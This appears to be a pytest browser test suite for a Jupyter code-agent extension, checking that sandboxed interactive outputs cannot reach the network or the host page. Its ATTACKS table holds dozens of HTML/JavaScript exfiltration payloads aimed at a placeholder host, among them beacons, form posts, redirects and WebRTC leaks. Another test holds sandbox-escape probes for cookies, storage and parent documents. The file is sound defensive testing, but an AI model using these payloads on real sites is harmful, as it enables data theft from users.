"""Interactive output of the sandbox: shown after a click, and whatever it tries, no request leaves its frame."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from browser_console import BrowserConsole
from model_server import ModelServer, code
from notebook_page import NotebookPage, OpenNotebook
from playwright.sync_api import Browser, Error, FrameLocator, Locator, Request, expect

pytestmark = pytest.mark.browser

LOAD = "%load_ext jupyter_codeagent"
ASK = "%%agent\nShow it."
SPEC = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"values": [{"city": "Oslo", "n": 5}, {"city": "Rome", "n": 2}]},
    "mark": {"type": "bar", "tooltip": True},
    "encoding": {
        "x": {"field": "city", "type": "nominal"},
        "y": {"field": "n", "type": "quantitative"},
        "color": {"value": "#ff0000"},
    },
    "transform": [{"calculate": "datum.n * 2", "as": "double"}],
}
SHOW = "Show interactive chart"


def shown(open_notebook: OpenNotebook, model: ModelServer, source: str) -> tuple[NotebookPage, Locator]:
    """The notebook after a run of this code in the sandbox, and the cell with its outputs."""
    model.script(code(source))
    notebook = open_notebook([LOAD, ASK])
    notebook.run_all()
    cell = notebook.cells.nth(2)
    expect(cell.get_by_role("button", name=SHOW).first).to_be_visible()
    return notebook, cell


def content_of(cell: Locator, index: int = 0) -> FrameLocator:
    """The inner frame of the cell's output with this number."""
    return cell.locator(".jp-CodeAgent-interactiveHost > iframe").nth(index).content_frame.frame_locator("iframe")


def test_a_vega_lite_chart_is_a_button_and_is_drawn_after_the_click(
    open_notebook: OpenNotebook, shared_model: ModelServer
) -> None:
    source = (
        f"from IPython.display import display\ndisplay({{'application/vnd.vegalite.v5+json': {SPEC!r}}}, raw=True)"
    )
    notebook, cell = shown(open_notebook, shared_model, source)

    assert notebook.page.locator("iframe").count() == 0
    cell.get_by_role("button", name=SHOW).press("Enter")
    bars = content_of(cell).locator('.mark-rect path[fill="#ff0000"]')
    expect(bars).to_have_count(2)
    bundle = notebook.saved().cells[2].outputs[0].data
    assert bundle["text/plain"] == "[interactive Vega-Lite chart: shown on click in JupyterLab]"
    assert bundle["application/vnd.codeagent.interactive.v1+json"]["content"] == SPEC


@pytest.mark.long("another situation of what a test beside it proves")
def test_hide_takes_the_frame_away_and_shows_the_static_form_again(
    open_notebook: OpenNotebook, shared_model: ModelServer
) -> None:
    html = "<b>static form</b><svg><text y='20'>only in the frame</text></svg><script>1</script>"
    notebook, cell = shown(
        open_notebook, shared_model, f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"
    )

    static_form = cell.locator(".jp-OutputArea").get_by_text("static form", exact=True)
    expect(static_form).to_be_visible()
    cell.get_by_role("button", name=SHOW).click()
    expect(content_of(cell).get_by_text("only in the frame")).to_be_visible()
    expect(static_form).to_be_hidden()
    cell.get_by_role("button", name="Hide").click()
    expect(static_form).to_be_visible()
    assert notebook.page.locator("iframe").count() == 0


@pytest.mark.long("another situation of what a test beside it proves")
def test_a_plotly_figure_is_drawn_with_the_servers_own_plotly(
    open_notebook: OpenNotebook, shared_model: ModelServer
) -> None:
    source = (
        "import plotly.graph_objects as go\n"
        "go.Figure(go.Bar(x=['Oslo', 'Rome'], y=[5, 2], marker_color='red'), layout={'title': {'text': 'Sums'}})"
    )
    _, cell = shown(open_notebook, shared_model, source)

    cell.get_by_role("button", name=SHOW).click()
    content = content_of(cell)
    expect(content.locator(".gtitle")).to_have_text("Sums")
    expect(content.locator(".bars .point")).to_have_count(2)


# --- what hostile content tries -----------------------------------------------------------------------------

# In each, BASE is an address of the listener and UDP a host and port for STUN.
RTC = (
    "const rtc = W => { const p = new W.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
    "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); };"
)
ATTACKS = {
    "fetch": "<script>fetch('BASE')</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', 'BASE'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('BASE', 'secret')</script>",
    "websocket": "<script>new WebSocket('BASE'.replace('http', 'ws'))</script>",
    "eventsource": "<script>new EventSource('BASE')</script>",
    "image": "<img src='BASE'>",
    "image of a script": "<script>new Image().src = 'BASE'</script>",
    "stylesheet": "<link rel=stylesheet href='BASE'>",
    "style": "<style>body { background: url(BASE) }</style>",
    "font": "<style>@font-face { font-family: f; src: url(BASE) } p { font-family: f }</style><p>text</p>",
    "video": "<video src='BASE' autoplay></video>",
    "script": "<script src='BASE'></script>",
    "import": "<script>import('BASE')</script>",
    "prefetch": "<link rel=prefetch href='BASE'>",
    "preload": "<link rel=preload as=image href='BASE'>",
    "speculation": '<script>const s = document.createElement("script"); s.type = "speculationrules";'
    's.text = \'{"prefetch": [{"source": "list", "urls": ["BASE"], "eagerness": "immediate"}]}\';'
    "document.head.append(s)</script>",
    "location": "<script>location = 'BASE'</script>",
    "location later": "<script>setTimeout(() => { location = 'BASE' }, 300)</script>",
    "navigation": "<script>navigation.navigate('BASE')</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=BASE'>",
    "refresh by script": "<script>document.write(`<meta http-equiv=refresh content='0;url=BASE'>`)</script>",
    "form": "<form action='BASE'><input name=d value=secret></form><script>document.forms[0].submit()</script>",
    "form to the top": "<form action='BASE' target=_top></form><script>document.forms[0].submit()</script>",
    "link": "<a href='BASE'>x</a><script>document.links[0].click()</script>",
    "link to a new tab": "<a href='BASE' target=_blank>x</a><script>document.links[0].click()</script>",
    "download": "<a href='BASE' download>x</a><script>document.links[0].click()</script>",
    "ping": "<a href='#' ping='BASE'>x</a><script>document.links[0].click()</script>",
    "popup": "<script>window.open('BASE')</script>",
    "top": "<script>top.location = 'BASE'</script>",
    "parent": "<script>parent.location = 'BASE'</script>",
    "frame": "<iframe src='BASE'></iframe>",
    "object": "<object data='BASE'></object>",
    "frame of a frame": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=BASE'>\"></iframe>",
    "address of a frame": "<iframe></iframe><script>frames[0].location = 'BASE'</script>",
    "blob": "<script>location = URL.createObjectURL(new Blob([`<img src='BASE'>`], {type: 'text/html'}))</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`importScripts('BASE')`])))</script>",
    "worklet": "<script>new AudioContext().audioWorklet.addModule('BASE')</script>",
    "handler": "<img src='data:,' onerror=\"fetch('BASE'); location = 'BASE'\">",
    "webrtc": f"<script>{RTC} rtc(window)</script>",
    "webrtc, hoisted": f"<script>{RTC} rtc(window); function Object() {{}} function Reflect() {{}}</script>",
    "webrtc, of a module": f"<script type=module>{RTC} rtc(window)</script>",
    "webrtc, of an empty frame": f"<iframe></iframe><script>{RTC} rtc(frames[0])</script>",
    "webrtc, in a frame": f'<p></p><iframe srcdoc="<script>{RTC} rtc(window)</script>"></iframe><script></script>',
    "webrtc, itself in a frame": f"<script>{RTC} rtc(window); if (top === parent.parent || top === window) {{"
    "const f = document.createElement('iframe');"
    "f.srcdoc = '<scr' + 'ipt>' + document.currentScript.text + '</scr' + 'ipt>';"
    "document.body.append(f) }</script>",
    "webrtc, by a handler": f'<img src="data:," onerror="{RTC} rtc(window)">',
    "webrtc, by a javascript address": f'<iframe src="javascript:{RTC} rtc(window)"></iframe>',
    "webrtc, by an own javascript address": f'<script>location = "javascript:{RTC} rtc(window)"</script>',
    "webrtc, of generated code": f'<script>new Function("{RTC} rtc(window)")()</script>',
    "webrtc, by a written script": "<script>const s = document.createElement('script');"
    f"s.text = `{RTC} rtc(window)`; document.head.append(s)</script>",
}


@dataclass
class Listener:
    """Counts by name who reached it."""

    reached: set[str] = field(default_factory=set)
    pages: dict[str, str] = field(default_factory=dict)
    """What is served at ``/page/<name>``."""
    port: int = 0

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            _, kind, *rest = self.path.split("?")[0].split("/")
            if kind == "page":
                body = listener.pages["/".join(rest)].encode()
            else:
                listener.reached.add("/".join([kind, *rest]))
                body = b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            with suppress(BrokenPipeError):  # the page may have been left in the meantime
                self.wfile.write(body)

        do_GET = do_POST = do_HEAD = answer

        def log_request(self, *_: object) -> None:
            """Nothing on the terminal."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.port = server.server_port
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield listener
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@contextmanager
def counting_port(listener: Listener, name: str) -> Iterator[int]:
    """A UDP port on which whatever comes is counted as that name."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as open_socket:
        open_socket.bind(("127.0.0.1", 0))
        open_socket.settimeout(0.1)
        ended = threading.Event()

        def count() -> None:
            while not ended.is_set():
                with suppress(TimeoutError):
                    open_socket.recvfrom(2048)
                    listener.reached.add(name)

        thread = threading.Thread(target=count)
        thread.start()
        try:
            yield int(open_socket.getsockname()[1])
        finally:
            ended.set()
            thread.join()


def attack_pages(listener: Listener, origin: str, ports: ExitStack) -> dict[str, str]:
    """By name as the listener counts it: ``origin/attack``."""
    pages = {}
    for name, attack in ATTACKS.items():
        key = f"{origin}/{re.sub('[^a-z]+', '-', name)}"
        udp = ports.enter_context(counting_port(listener, key)) if "stun:UDP" in attack else 0
        body = attack.replace("BASE", f"{listener.url}/{key}").replace("UDP", f"127.0.0.1:{udp}")
        pages[key] = f"<p>content</p><script>document.querySelector('p').textContent = 'ran'</script>{body}"
    return pages


@pytest.mark.timeout(400)
@pytest.mark.long("another situation of what a test beside it proves")
def test_whatever_hostile_content_tries_no_request_leaves_its_frame(
    open_notebook: OpenNotebook, shared_model: ModelServer, browser: Browser, quiet_console: BrowserConsole
) -> None:
    quiet_console.tolerated.append("")  # each refusal is told there
    with listening() as listener, ExitStack() as ports:
        framed = attack_pages(listener, "framed", ports)
        open_pages = attack_pages(listener, "open", ports)
        listener.pages.update(open_pages)
        source = (
            "from IPython.display import HTML, display\n"
            f"for page in {list(framed.values())!r}:\n    display(HTML(page))"
        )
        notebook, cell = shown(open_notebook, shared_model, source)
        requests: list[Request] = []

        def note(request: Request) -> None:
            requests.append(request)

        context = notebook.page.context
        context.on("request", note)
        buttons = cell.locator(".jp-CodeAgent-interactiveBar button")
        expect(buttons).to_have_count(len(ATTACKS))
        for button in buttons.all():
            button.press("Enter")  # not the mouse: the frames above are still growing
        expect(notebook.page.locator("iframe")).to_have_count(len(ATTACKS))
        expect(content_of(cell, list(ATTACKS).index("fetch")).get_by_text("content")).to_be_attached()

        # The same pages outside of a frame: that each of them arrives shows that the listener would have counted.
        unheard = visit(browser, listener, list(open_pages))

        notebook.page.wait_for_timeout(1000)
        assert unheard == set()
        assert {name for name in listener.reached if name.startswith("framed")} == set()
        # The browser reports the attempts, too: each must have been refused by the policy.
        tried = [request for request in requests if f":{listener.port}/" in request.url]
        assert [request.url for request in tried if request.failure != "csp"] == []
        assert len(context.pages) == 1
        context.remove_listener("request", note)


def visit(browser: Browser, listener: Listener, keys: list[str]) -> set[str]:
    """Open each page by itself, over HTTP; those that did not reach the listener."""
    unheard = set()
    context = browser.new_context()
    for key in keys:
        page = context.new_page()
        with suppress(Error):  # it may navigate away while it loads
            page.goto(f"{listener.url}/page/{key}", wait_until="commit")
        for _ in range(100):
            if key in listener.reached:
                break
            page.wait_for_timeout(100)
        else:
            unheard.add(key)
        # Not closed one by one: Chromium does not always answer for a page that is leaving for somewhere else.
    context.close()
    return unheard


@pytest.mark.long("another situation of what a test beside it proves")
def test_hostile_content_reaches_neither_the_page_nor_its_size(
    open_notebook: OpenNotebook, shared_model: ModelServer
) -> None:
    attack = """<p>content</p><script>
      const reached = [];
      for (const [name, reach] of Object.entries({
        parent: () => parent.document.body, page: () => top.document.body, app: () => top.jupyterapp,
        cookie: () => document.cookie, storage: () => localStorage.length, opener: () => opener.document,
        alert: () => { if (alert('x') === undefined) throw 1 },
      })) { try { reach(); reached.push(name) } catch { /* as it should be */ } }
      for (const height of [1e9, '99999px', NaN, {}, -5]) {
        parent.parent.postMessage({ codeagentHeight: height }, '*');
        parent.postMessage({ codeagentHeight: height }, '*');
      }
      document.querySelector('p').textContent = `reached: [${reached}]`;
    </script><div style="height: 5000px">high</div>"""
    notebook, cell = shown(
        open_notebook, shared_model, f"from IPython.display import HTML, display\ndisplay(HTML({attack!r}))"
    )
    cell.get_by_role("button", name=SHOW).click()

    expect(content_of(cell).locator("p")).to_have_text("content")  # no script of it ran
    outer = cell.locator(".jp-CodeAgent-interactiveHost > iframe")
    outer.scroll_into_view_if_needed()  # out of view nothing is laid out, and no height is told
    expect(outer).to_have_css("height", "1200px")
    assert outer.get_attribute("sandbox") == "allow-scripts"
    assert notebook.page.title() != "reached"


@pytest.mark.long("another situation of what a test beside it proves")
def test_a_page_whose_library_is_elsewhere_says_so_below_its_button(
    open_notebook: OpenNotebook, shared_model: ModelServer
) -> None:
    html = "<script src='https://cdn.example/lib.js'></script><script>lib.draw()</script><p>nothing else</p>"
    _, cell = shown(
        open_notebook, shared_model, f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"
    )
    cell.get_by_role("button", name=SHOW).click()

    expect(cell.get_by_text("Not loaded, because the frame has no network: cdn.example.")).to_be_visible()
